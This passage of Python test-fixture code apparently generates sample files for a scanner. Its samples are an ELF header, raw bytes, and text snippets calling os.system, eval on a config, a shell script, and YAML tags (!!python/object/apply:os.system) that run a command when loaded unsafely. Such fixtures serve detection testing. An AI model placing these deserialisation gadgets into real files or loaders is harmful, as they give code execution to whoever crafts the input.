    yield "elf", b"\x7fELF\x02\x01\x01" + b"\0" * 100
    yield "bytes", bytes(range(255, 128, -1)) * 10


def texts(command: str) -> Made:
    yield "text-python", b"import os\nos.system('x')\n"
    yield "text-python-def", b"# a model\ndef build(config):\n    return eval(config)\n"
    yield "text-python-class", b"class Model(Base):\n    pass\n"
    yield "text-script", b"#!/bin/sh\n" + command.encode()
    yield "text-yaml", f"a: !!python/object/apply:os.system [{command!r}]\n".encode()
    yield "text-yaml-name", b"a: !!python/name:os.system\n"
